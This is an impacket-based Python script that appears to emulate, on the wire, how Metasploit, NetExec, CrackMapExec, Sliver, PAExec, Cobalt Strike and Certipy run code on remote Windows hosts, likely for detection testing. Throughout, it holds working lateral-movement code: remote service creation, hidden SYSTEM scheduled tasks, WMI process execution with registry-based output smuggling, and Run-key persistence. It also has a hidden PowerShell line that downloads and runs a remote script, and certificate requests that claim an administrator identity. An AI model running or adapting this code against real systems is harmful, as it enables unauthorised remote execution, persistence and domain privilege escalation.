"""What tools do whose clients are not at hand, call by call and word by word as their published sources have it, by python3-impacket.

usage: published.py WHAT HOST [PASSWORD]
Sources: rapid7/metasploit-framework lib/msf/core/exploit/remote/smb/client/psexec.rb; Pennyw0rth/NetExec nxc/protocols/smb/{smbexec,
atexec,wmiexec}.py and nxc/protocols/wmi/wmiexec.py; BishopFox/sliver client/command/exec/psexec.go; byt3bl33d3r/CrackMapExec
cme/helpers/powershell.py; fortra/impacket impacket/dcerpc/v5/{icpr,tsts}.py, examples/tstool.py and ntlmrelayx's rpcattack.py;
ly4k/Certipy certipy/lib/{req,rpc}.py; poweradminllc/PAExec {Remote,ConsoleRedir}.cpp and stdafx.h; reactos/reactos
dll/win32/advapi32/misc/logon.c and sdk/include/reactos/idl/seclogon.idl; for Cobalt Strike, which is closed, the rules of SigmaHQ/sigma that name what its psexec and psexec_psh leave.
"""
import base64
import io
import os
import struct

from impacket.dcerpc.v5 import rpcrt, sasec, scmr, tsch
from impacket.dcerpc.v5.dcom import wmi
from impacket.dcerpc.v5.dcomrt import DCOMConnection

from client import NULL, declared, filled, host, password, pipe, port, what

# A PE image of headers alone.
PROGRAM = b'MZ' + b'\0' * 58 + b'\x40\0\0\0' + b'PE\0\0' + b'\x64\x86\1\0' + b'\0' * 12 + b'\xf0\0\x22\0' + b'\x0b\2' + b'\0' * 420


def encoded(script):
    return base64.b64encode(script.encode('utf-16le')).decode()


def service(name, shown, path, drop=None, output=None, delete=()):
    rpc, smb = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
    if drop:
        smb.putFile('ADMIN$', drop, io.BytesIO(PROGRAM).read)
    manager = scmr.hROpenSCManagerW(rpc)['lpScHandle']
    made = scmr.hRCreateServiceW(rpc, manager, name + '\0', shown + '\0', lpBinaryPathName=path + '\0',
                                 dwStartType=scmr.SERVICE_DEMAND_START)['lpServiceHandle']
    try:
        scmr.hRStartServiceW(rpc, made)
    except scmr.DCERPCSessionError as refusal:
        print(refusal)
    scmr.hRDeleteService(rpc, made)
    scmr.hRCloseServiceHandle(rpc, made)
    if output:
        smb.getFile(*output, lambda data: print(data))
    for share, file in delete:
        smb.deleteFile(share, file)
    smb.logoff()


def cobalt_strike():
    service('b3c2f1a', 'b3c2f1a', '\\\\127.0.0.1\\ADMIN$\\b3c2f1a.exe', drop='b3c2f1a.exe', delete=[('ADMIN$', 'b3c2f1a.exe')])
    service('4d1a7c2', '4d1a7c2', '%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand '
            + encoded('Start-Sleep -Seconds 1; Get-Date'))


def metasploit():
    service('kVbQzXwe', 'tGhJkLmNbVcXzQwE', '%SYSTEMROOT%\\pLmKoNji.exe', drop='pLmKoNji.exe', delete=[('ADMIN$', 'pLmKoNji.exe')])
    text, bat = '\\Windows\\Temp\\qAzWsXedCrfV.txt', '\\Windows\\Temp\\tGbYhNujM.bat'
    service('RfVtGbYh', 'NujMikOlPqAzWsXe', '%COMSPEC% /C echo ipconfig ^> %SYSTEMDRIVE%' + text + ' > ' + bat +
            ' & %COMSPEC% /C start %COMSPEC% /C ' + bat, output=('C$', text), delete=[('C$', text)])

    service('qzvbnm', 'qzvbnm', 'cmd.exe /c echo qzvbnm > \\\\.\\pipe\\qzvbnm')


def netexec():
    line = ('%COMSPEC% /Q /c echo ipconfig ^> \\\\%COMPUTERNAME%\\C$\\kRtYpL 2^>^&1 > %TEMP%\\qWmNbV.bat'
            ' & %COMSPEC% /Q /c %TEMP%\\qWmNbV.bat & %COMSPEC% /Q /c del %TEMP%\\qWmNbV.bat')
    service('aBcDeFgHiJ', 'aBcDeFgHiJ', line, output=('C$', 'kRtYpL'), delete=[('C$', 'kRtYpL')])
    line = line.replace('%COMPUTERNAME%', '127.0.0.1').replace('kRtYpL', 'zXcVbN')
    service('kLmNoPqRsT', 'kLmNoPqRsT', line, output=('C$', 'zXcVbN'), delete=[('C$', 'zXcVbN')])


def crackmapexec():
    line = "powershell.exe -exec bypass -noni -nop -w 1 -C \"IEX (New-Object Net.WebClient).DownloadString('http://10.1.0.66/a.ps1')\""
    service('uIoPaSdFgH', 'uIoPaSdFgH', '%COMSPEC% /Q /c ' + line)
    line = 'powershell.exe -noni -nop -w 1 -enc ' + encoded('Start-Sleep -Seconds 1; Get-Date')
    service('jKlZxCvBnM', 'jKlZxCvBnM', '%COMSPEC% /Q /c ' + line)


def sliver():
    service('Sliver', 'Sliver', 'c:\\windows\\temp\\3pq7xk2mzw.exe', drop='Temp\\3pq7xk2mzw.exe')


TASK = '''<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Principals><Principal id="LocalSystem"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><AllowStartOnDemand>true</AllowStartOnDemand><Enabled>true</Enabled><Hidden>%s</Hidden></Settings>
  <Actions Context="LocalSystem"><Exec><Command>%s</Command><Arguments>%s</Arguments></Exec></Actions>
</Task>'''


def netexec_task():
    rpc, smb = pipe('atsvc', tsch.MSRPC_UUID_TSCHS)
    output = '\\Windows\\Temp\\mNbVcX'
    text = TASK % ('true', 'cmd.exe', '/C ipconfig &gt; %s 2&gt;&amp;1' % output)
    tsch.hSchRpcRegisterTask(rpc, '\\qWeRtYuI', text, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    tsch.hSchRpcRun(rpc, '\\qWeRtYuI')
    tsch.hSchRpcGetLastRunInfo(rpc, '\\qWeRtYuI')
    tsch.hSchRpcDelete(rpc, '\\qWeRtYuI')
    smb.getFile('C$', output, lambda data: print(data))
    smb.deleteFile('C$', output)


def task_rights():
    rpc, _ = pipe('atsvc', tsch.MSRPC_UUID_TSCHS)
    text = TASK % ('false', 'C:\\ProgramData\\Backup\\nightly.exe', '/quiet')
    tsch.hSchRpcRegisterTask(rpc, '\\Backup', text, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    tsch.hSchRpcSetSecurity(rpc, '\\Backup', 'D:P(A;;FA;;;SY)\0', 0)


def task_account():
    rpc, _ = pipe('atsvc', sasec.MSRPC_UUID_SASEC)
    sasec.hSASetAccountInformation(rpc, '\\\\' + host, 'nightly.job', 'LAB\\ssales', 'Winter2023!')


def process_class():
    connection = DCOMConnection(host, 'Administrator', password, 'LAB', oxidResolver=True)
    login = wmi.IWbemLevel1Login(connection.CoCreateInstanceEx(wmi.CLSID_WbemLevel1Login, wmi.IID_IWbemLevel1Login))
    services = login.NTLMLogin('//./root/cimv2', NULL, NULL)
    login.RemRelease()
    return connection, services, services.GetObject('Win32_Process')[0]


def netexec_smb_wmi():
    _, smb = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
    connection, _, process = process_class()
    output = '\\Windows\\Temp\\qZtbRk'
    process.Create('cmd.exe /Q /c ipconfig 1> %s 2>&1' % output, 'C:\\', None)
    smb.getFile('C$', output, lambda data: print(data))
    smb.deleteFile('C$', output)
    connection.disconnect()


def netexec_wmi():
    connection, services, process = process_class()
    result, carried = ('C:\\windows\\temp\\%s.txt' % name for name in (
        '3f1d2a4e-8b6c-4f0a-9d57-6c1e2b7a9f30', 'a7c4e1b9-52d8-4a63-8f1e-0d9b3c6e7a21'))
    key, value = 'Software\\Classes\\xWqLpZ', '5b0e9c72-1f4a-4d83-b6e9-27a8c0d1f3e4'
    process.Create('cmd.exe /Q /c  ipconfig 1> ' + result + ' 2>&1 && certutil -encodehex -f ' + result + ' ' + carried +
                   ' 0x40000001 && for /F "usebackq" %G in ("' + carried + '") do reg add HKLM\\' + key + ' /v ' + value +
                   ' /t REG_SZ /d "%G" /f && del /q /f /s ' + result + ' ' + carried, 'C:\\', None)
    registry = services.GetObject('StdRegProv')[0].SpawnInstance()
    print(registry.GetStringValue(2147483650, key, value).sValue)
    registry.DeleteKey(2147483650, key)
    connection.disconnect()


# A program started, the system's name asked for, and a value of a Run key set: nothing is deleted.
def wmi_registry():
    connection, services, process = process_class()
    process.Create('C:\\ProgramData\\Inventory\\agent.exe /scan', 'C:\\', None)
    registry = services.GetObject('StdRegProv')[0].SpawnInstance()
    print(registry.GetStringValue(2147483650, 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion', 'ProductName').sValue)
    registry.SetStringValue(2147483650, 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'Inventory',
                            'C:\\ProgramData\\Inventory\\agent.exe')
    connection.disconnect()


def certificate(rpc, template, name):
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    key = rsa.generate_private_key(65537, 2048)
    subject = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, name)])
    asked = x509.CertificateSigningRequestBuilder(subject).sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.DER)
    attributes = '\n'.join(['CertificateTemplate:' + template, 'SAN:upn=administrator@lab.local'])
    request = filled(declared.ICERT_PASSAGE.CertServerRequest(), dwFlags=0, pwszAuthority='LAB-CA\0', pdwRequestId=0)
    for field, data in ('pctbAttribs', (attributes + '\0').encode('utf-16le')), ('pctbRequest', asked):
        request[field]['cb'], request[field]['pb'] = len(data), data
    print(hex(rpc.request(request)['pdwDisposition']))


def certificates():
    certificate(pipe('cert', declared.ICERT_PASSAGE.uuid, level=rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY)[0], 'User', 'Ssales')
    relayed = port(49663, declared.ICERT_PASSAGE.uuid, rpcrt.RPC_C_AUTHN_LEVEL_CONNECT)
    certificate(relayed, 'Machine', 'DC1$')
    certificate(relayed, 'SubCA', 'DC1$')


def terminals():
    smb, sealed = None, rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY
    enumeration, smb = pipe('LSM_API_service', declared.TERM_SRV_ENUMERATION.uuid, level=sealed)
    calls = declared.TERM_SRV_ENUMERATION
    handle = enumeration.request(filled(calls.RpcOpenEnum(), hBinding=bytes(20)))['phEnum']
    found = enumeration.request(filled(calls.RpcGetEnumResult(), hEnum=handle, Level=1))['ppSessionEnumResult']
    enumeration.request(filled(calls.RpcCloseEnum(), phEnum=handle))
    session, _ = pipe('LSM_API_service', declared.TERM_SRV_SESSION.uuid, smb, sealed)
    for one in found:
        number = one['Data']['SessionEnum_Level1']['SessionId']
        session.request(filled(declared.TERM_SRV_SESSION.RpcGetSessionInformationEx(), SessionId=number, Level=1))
    legacy, _ = pipe('Ctx_WinStation_API_service', declared.LEGACY_API.uuid, smb, sealed)
    opened = filled(declared.LEGACY_API.RpcWinStationOpenServer(), hBinding=bytes(20))
    handle = legacy.request(opened, checkError=False)['phServer']
    processes = declared.LEGACY_API.RpcWinStationGetAllProcesses()
    legacy.request(filled(processes, hServer=handle, Level=0, pNumberOfProcesses=0x8000), checkError=False)


def paexec_message(number, payload, client=0x51c3):
    rest = bytearray(struct.pack('<LL', client, len(payload)) + payload)
    if number != 1:
        return struct.pack('<H', number) + rest
    key = value = struct.unpack('<L', os.urandom(4))[0]
    for at in range(len(rest) - 3):
        struct.pack_into('<L', rest, at, struct.unpack_from('<L', rest, at)[0] ^ value)
        value = value + 3 & 0xffffffff
    return struct.pack('<HL', number, key) + rest


def paexec_text(value):
    return struct.pack('<L', len(value)) + value.encode('utf-16le')


def paexec():
    """paexec \\\\HOST -u LAB\\backup -p ... whoami /all, by process 4242 of CLIENT."""
    name, process = 'PAExec-4242-CLIENT', 4242
    rpc, smb = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
    smb.putFile('ADMIN$', name + '.exe', io.BytesIO(PROGRAM).read)
    manager = scmr.hROpenSCManagerW(rpc)['lpScHandle']
    made = scmr.hRCreateServiceW(rpc, manager, name + '\0', name + '\0', lpBinaryPathName='%SystemRoot%\\' + name + '.exe -service\0',
                                 dwStartType=scmr.SERVICE_DEMAND_START)['lpServiceHandle']
    scmr.hRStartServiceW(rpc, made)
    tree = smb.connectTree('IPC$')
    control = smb.openFile(tree, name + '.exe')
    settings = struct.pack('<LL5?L3?', 1, 0, False, False, False, False, False, 0xffffffff, False, False, False)
    settings += paexec_text('Winter2023!') + paexec_text('LAB\\backup') + b'\0' + paexec_text('') + struct.pack('<?L', False, 0x20)
    settings += paexec_text('whoami') + paexec_text('/all') + b'\0\0' + paexec_text('') + b'\0' + paexec_text('') * 2 + struct.pack('<LLL', 0, 0, 0)
    smb.writeNamedPipe(tree, control, paexec_message(1, settings))
    print(smb.readNamedPipe(tree, control))
    smb.writeNamedPipe(tree, control, paexec_message(5, struct.pack('<L', process) + paexec_text('CLIENT')))
    streams = [smb.openFile(tree, 'PAExec%sCLIENT%d' % (stream, process)) for stream in ('Out', 'Err', 'In')]
    print(smb.readNamedPipe(tree, streams[0]))
    print(smb.readNamedPipe(tree, control))
    for opened in [*streams, control]:
        smb.closeFile(tree, opened)
    scmr.hRControlService(rpc, made, scmr.SERVICE_CONTROL_STOP)
    scmr.hRDeleteService(rpc, made)
    scmr.hRCloseServiceHandle(rpc, made)
    smb.deleteFile('ADMIN$', name + '.exe')
    smb.logoff()


def secondary_logon():
    rpc, _ = pipe('seclogon', declared.ISECLOGON.uuid)
    request = declared.ISECLOGON.SeclCreateProcessWithLogonW()
    filled(request['pRequest'], Username='backup\0', Domain='LAB\0', Password='Winter2023!\0', ApplicationName=NULL,
           CommandLine='cmd.exe /c whoami\0', CurrentDirectory=NULL, Environment=NULL, dwEnvironmentSize=0,
           dwLogonFlags=1, dwCreationFlags=0x400, dwProcessId=4242)
    try:
        rpc.request(request)
    except rpcrt.DCERPCException as refusal:
        print(refusal)


globals()[what]()
